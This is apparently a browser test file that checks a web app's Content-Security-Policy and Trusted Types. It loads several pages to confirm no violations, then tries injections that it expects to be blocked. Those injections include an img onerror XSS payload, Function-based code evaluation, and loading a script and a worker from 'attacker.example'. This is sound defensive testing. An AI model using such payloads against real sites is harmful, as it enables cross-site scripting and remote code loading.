/** The Content-Security-Policy and Trusted Types in a real browser: what they block, and that no page violates them. */
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { grantAdministration, startTestEnvironment, type TestEnvironment } from './test-environment.ts'

let stage: TestEnvironment
let page: Page
beforeAll(async () => {
  stage = await startTestEnvironment('policy')
  await grantAdministration(stage)
  page = await stage.newPage(stage.visitor)
}, 120_000)
afterAll(() => stage.close())

const violations = () =>
  stage.browserErrors.filter((line) => /policy violation|Content Security Policy|Trusted/i.test(line))

it.each([
  ['/overview', 'Overview'],
  ['/scope?create=true', 'Scope'],
  ['/risks/visual', 'Visual map'],
  ['/integrations', 'Integrations'],
  ['/profile', 'Settings'],
  ['/workspace', 'Workspace settings'],
  ['/installation', 'Installation'],
  ['/subscription', 'Subscription'],
  ['/docs/help', 'Glacis documentation'],
])('SEC-H1 %s violates no policy', async (path) => {
  await page.goto(path)
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  await page.waitForLoadState('networkidle')
  expect(violations()).toEqual([])
})

it('SEC-H1 shows the API reference without violations', async () => {
  await page.goto('/docs/api')
  const heading = page.getByRole('heading', { name: /^Targets/ })
  await heading.first().waitFor()
  await heading.first().click()
  await page.getByRole('button', { name: /^GET \/v1\/targets$/i }).click()
  // The example of a nested schema.
  await page.locator('.opblock-body').filter({ hasText: '"latency": "0.042s"' }).waitFor()
  expect(violations()).toEqual([])
})

it('SEC-H1 blocks markup, code, and workers that an attacker could inject', async () => {
  await page.goto('/overview')
  const outcome = await page.evaluate<Record<string, unknown>>(`(async () => {
    // Code that the browser evaluates for the test itself is exempt from the policies; code that a timer starts isn't.
    await new Promise((resolve) => setTimeout(resolve))
    const attempt = (action) => {
      try {
        action()
        return 'allowed'
      } catch (error) {
        return error.name
      }
    }
    const element = document.createElement('div')
    document.body.append(element)
    const results = {
      markup: attempt(() => (element.innerHTML = '<img src=x onerror="globalThis.isInjected = true">')),
      code: attempt(() => new Function('globalThis.isInjected = true')()),
      script: attempt(() => (document.createElement('script').src = 'https://attacker.example/x.js')),
      worker: attempt(() => new Worker('https://attacker.example/x.js')),
      ownScript: attempt(() => (document.createElement('script').src = '/before-paint.js')),
    }
    element.setAttribute('style', 'color: rgb(1, 2, 3)')
    return { ...results, color: getComputedStyle(element).color, isInjected: 'isInjected' in globalThis }
  })()`)
  expect(outcome).toMatchObject({
    markup: 'TypeError',
    code: 'EvalError',
    script: 'TypeError',
    worker: 'TypeError',
    ownScript: 'allowed',
    isInjected: false,
  })
  expect(outcome['color']).not.toBe('rgb(1, 2, 3)')
})
